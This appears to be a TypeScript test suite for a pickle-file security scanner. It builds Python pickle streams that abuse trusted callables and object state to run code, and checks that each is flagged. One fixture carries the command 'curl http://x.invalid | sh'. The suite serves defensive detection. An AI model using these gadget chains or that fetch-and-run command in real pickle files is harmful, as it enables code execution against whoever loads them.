import { bytes, call, proto, run, sglob, str } from '../testing';
import { atLeast } from '../report';

// Callables that are trusted, put to a use that they are not trusted for: they call what they are given, or the file
// replaces what their objects do. No dangerous name is needed for any of these.

const dict = (...items: Uint8Array[]): Uint8Array => bytes('}(', ...items, 'u');
const pair = (a: Uint8Array, b: Uint8Array): Uint8Array => bytes(a, b, 0x86);
const build = (object: Uint8Array, state: Uint8Array): Uint8Array => bytes(object, state, 'b');
const none = bytes('N');

const HELD = sglob('somepkg', 'Held');
const holder = (key: string, value = HELD): Uint8Array =>
  build(call(sglob('types', 'SimpleNamespace')), dict(str(key), value));
const path = call(sglob('pathlib', 'PosixPath'), str('x'));
const bound = (object: Uint8Array, name: string): Uint8Array => call(sglob('builtins', 'getattr'), object, str(name));
const norm = bytes(sglob('scipy.stats._continuous_distns', 'norm_gen'), ')', 0x81);
const template = [str('_parse_arg_template'), str('import this')] as const;
const generator = sglob('numpy.random._pickle', '__generator_ctor');

describe('a method that does more than compute', () => {
  test.each([
    ['of a path', bound(path, 'unlink')],
    ['of the class of paths', bound(sglob('pathlib', 'Path'), 'write_text')],
    ['of a frame', bound(call(sglob('pandas', 'DataFrame')), 'query')]
  ])('%s', (_what, method) => {
    expect(run(proto(4, method)).verdict).toBe('unsafe');
  });

  test.each([
    ['of a text', bound(str('a'), 'upper')],
    ['that a number has', bound(call(sglob('decimal', 'Decimal'), str('1')), 'normalize')],
    ['of a model', bound(bytes(sglob('sklearn.linear_model._base', 'LinearRegression'), ')', 0x81), 'predict')],
    ['a member of an enumeration', bound(sglob('http', 'HTTPStatus'), 'OK')]
  ])('but not one %s', (_what, method) => {
    expect(run(proto(4, method)).findings.filter(({ severity }) => atLeast(severity, 'MEDIUM'))).toEqual([]);
  });
});

test('the keyword arguments of a partial that is called may be called', () => {
  const sorted = (key: Uint8Array): Uint8Array => {
    const made = call(sglob('functools', 'partial'), sglob('builtins', 'sorted'));
    const texts = bytes('](', str('open("x", "w")'), 'e', 0x85);
    return call(build(made, bytes('(', sglob('builtins', 'sorted'), texts, dict(str('key'), key), dict(), 't')));
  };
  expect(run(proto(4, sorted(sglob('sympy', 'sin')))).verdict).toBe('unsafe');
  expect(run(proto(4, sorted(sglob('builtins', 'len')))).verdict).toBe('clean');
});

describe('callables that call what they are given', () => {
  test.each([
    ['a random generator is made by a function of the file’s choosing', call(generator, str('x'), HELD)],
    ['an enumeration is made, not looked up', call(sglob('enum', 'Enum'), str('X'), dict(str('a'), HELD))],
    ['a class is made by its metaclass', call(sglob('abc', 'ABCMeta'), str('X'), bytes(')'), dict())],
    ['a class is made by the metaclass of data classes', call(sglob('dataclasses', '_InitVarMeta'), str('X'))],
    ['text is split by an object', call(sglob('string', 'capwords'), call(sglob('somepkg', 'Text')), str('x'))],
    [
      'a base class is called with a command',
      call(
        sglob('copyreg', '_reconstructor'),
        sglob('builtins', 'list'),
        sglob('somepkg', 'Base'),
        str('curl http://x.invalid | sh')
      )
    ],
    ['a distribution takes pairs for its state', build(norm, bytes(pair(...template), 0x85))],
    ['a distribution takes two pairs', build(norm, pair(pair(...template), pair(str('a'), none)))],
    ['a distribution takes the keys of dicts', build(norm, pair(dict(template[0], none, template[1], none), dict()))]
  ])('%s', (_what, body) => {
    expect(run(proto(4, body)).verdict).toBe('unsafe');
  });
});

describe('objects that are given other methods', () => {
  const finding = (...body: Uint8Array[]): string[] =>
    run(proto(4, ...body)).findings.map(({ rule, evidence }) => `${rule} ${evidence}`);

  test('append is what the state says', () => {
    expect(finding(holder('append'), str('arg'), bytes('a'))).toContain(
      "pickle-object-rewired types.SimpleNamespace().append('arg')"
    );
  });

  test('append is an item', () => {
    const bunch = call(sglob('sklearn.utils._bunch', 'Bunch'));
    expect(finding(bunch, str('append'), HELD, bytes('s'), str('arg'), bytes('a'))).toContain(
      "pickle-object-rewired sklearn.utils._bunch.Bunch().append('arg')"
    );
  });

  test('the second state goes to what the first one says', () => {
    expect(finding(build(holder('x'), str('arg')))).toContain(
      "pickle-object-rewired types.SimpleNamespace().__setstate__('arg')"
    );
  });

  test.each(['__setstate__', '__class__', '__array_interface__', '__array__'])('%s is an attribute', name => {
    expect(run(proto(4, holder(name))).verdict).toBe('unsafe');
    expect(
      run(proto(4, build(call(sglob('types', 'SimpleNamespace')), pair(none, dict(str(name), HELD))))).verdict
    ).toBe('unsafe');
  });

  test('also behind more attributes than are kept', () => {
    const many = Array.from({ length: 70 }, (_, i) => bytes(str(`a${i}`), 'N'));
    const state = (name: string): Uint8Array => dict(...many, str(name), HELD);
    const object = call(sglob('types', 'SimpleNamespace'));
    expect(run(proto(4, build(object, state('__setstate__')))).verdict).toBe('unsafe');
    expect(run(proto(4, build(object, state('__doc__')))).verdict).toBe('review');
  });

  test.each([
    ['type(x)', call(sglob('builtins', 'type'), call(sglob('collections', 'UserList')))],
    ['a logger', call(sglob('logging', 'getLogger'))]
  ])('%s is changed for the whole program', (_what, shared) => {
    const rules = run(proto(4, build(shared, pair(none, dict(str('x'), HELD))))).findings.map(({ rule }) => rule);
    expect(rules).toContain('pickle-global-overwritten');
  });

  test('items first and then one state is how objects are saved', () => {
    const list = call(sglob('collections', 'deque'));
    expect(run(proto(4, list, '(', str('a'), 'e', dict(str('x'), none), 'b')).verdict).toBe('clean');
    const ordered = call(sglob('collections', 'OrderedDict'));
    expect(run(proto(4, ordered, '(', str('a'), none, 'u', dict(str('x'), none), 'b')).verdict).toBe('clean');
  });
});
